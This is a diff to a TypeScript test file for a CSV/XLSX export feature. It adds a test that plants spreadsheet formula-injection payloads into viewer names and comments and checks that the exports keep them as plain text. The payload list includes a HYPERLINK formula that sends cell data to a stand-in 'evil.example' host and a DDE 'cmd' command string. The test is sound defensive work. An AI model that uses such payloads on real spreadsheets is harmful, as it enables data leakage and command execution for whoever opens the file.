@@ -5,10 +5,11 @@ import { mkdir, mkdtemp, readdir, rm, writeFile } from 'node:fs/promises';
 import { createServer } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
-import { join } from 'node:path';
+import { dirname, join } from 'node:path';
 import { crc32, inflateRawSync } from 'node:zlib';
 import { DuckDBInstance } from '@duckdb/node-api';
 import Database from 'better-sqlite3';
+import Papa from 'papaparse';
 import readExcelFile from 'read-excel-file/node';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { createIds } from '#engine/adapters/ids.ts';
@@ -48,6 +49,7 @@ let cutter = createClipCutter({ platform: process.platform, env: process.env });
 beforeAll(async () => {
   dir = await mkdtemp(join(tmpdir(), 'cuedeck-export-'));
   const paths = writeShows(dir, [SHOW]);
+  plantFormulas(paths.crowdPath);
   const log = createQuietLog();
   const clock = createManualClock(NOW);
   store = openReviewStore({ path: `${dir}/review.db`, ...paths, log, onDeath: (problem) => { throw problem; } });
@@ -63,6 +65,17 @@ afterAll(async () => {
   await runtime.stop();
   await rm(dir, { recursive: true });
 });
+
+/** What viewers type to be run by the spreadsheet of whoever opens an export. */
+const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1)', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', "'=1+1", 'nice;=1+1', 'nice\t=1+1', '"=1+1'];
+
+/** Into names and words of the first comments. */
+function plantFormulas(crowdPath: string): void {
+  const db = new Database(crowdPath);
+  const rows = db.prepare("SELECT rowid FROM audience_rows WHERE kind = 'comment' ORDER BY rowid LIMIT ?").pluck().all(FORMULAS.length);
+  for (const [index, row] of rows.entries()) db.prepare('UPDATE audience_rows SET text = ?, viewer_name = ? WHERE rowid = ?').run(FORMULAS[index], FORMULAS[index], row);
+  db.close();
+}
 
 const act = (command: Command, actor = person('Li')) => runtime.execute(command, actor, commandIdSchema.parse(`act-${(acts += 1)}`));
 const newest = (): ExportJob => { const job = runtime.current().state.review.exports.at(-1); if (job === undefined) throw new Error('no export'); return job; };
@@ -94,6 +107,7 @@ async function unzip(path: string, into: string): Promise<readonly string[]> {
     const from = offset + 30 + bytes.readUInt16LE(offset + 26) + bytes.readUInt16LE(offset + 28);
     const content = inflateRawSync(bytes.subarray(from, from + packed));
     expect(crc32(content)).toBe(crc);
+    await mkdir(dirname(join(into, name)), { recursive: true });
     await writeFile(join(into, name), content);
     names.push(name);
     at += 46 + nameLength;
@@ -109,6 +123,23 @@ describe('exports', () => {
     expect(lines.filter((line) => line.includes(',comment,'))).toHaveLength(12_000);
     expect(bytes.toString('utf8')).toContain('观***');
     expect(bytes.toString('utf8')).not.toMatch(/观众\d|,v\d+,|o5-/u);
+  });
+
+  it('formulas in names and comments stay text in CSV and XLSX, raw or masked, whatever sign they begin with and whatever parts the cells', async () => {
+    const RUNS = /^[=+\-@\t\r\n＝＋－＠]/u;
+    const { bytes, path } = await written('csv');
+    const text = bytes.toString('utf8');
+    for (const delimiter of [',', ';', '\t']) {
+      const cells = Papa.parse<string[]>(text.replace(/^\uFEFF/u, ''), { delimiter }).data.flat();
+      expect([delimiter, cells.filter((cell) => RUNS.test(cell) && !/^-?\d+$/u.test(cell))]).toEqual([delimiter, []]);
+    }
+    expect(text).toContain('cmd|');
+    expect(path.endsWith('.csv')).toBe(true);
+    const book = await written('xlsx');
+    const into = join(dir, 'formulas');
+    const sheets = (await unzip(book.path, into)).filter((name) => name.includes('sheet'));
+    for (const name of sheets) expect([name, /<f[ >]|t="str"|<hyperlink/u.test(readFileSync(join(into, name), 'utf8'))]).toEqual([name, false]);
+    expect(sheets.some((name) => readFileSync(join(into, name), 'utf8').includes('cmd|'))).toBe(true);
   });
 
   it('JSONL: the report first, then every row; no costs in it', async () => {
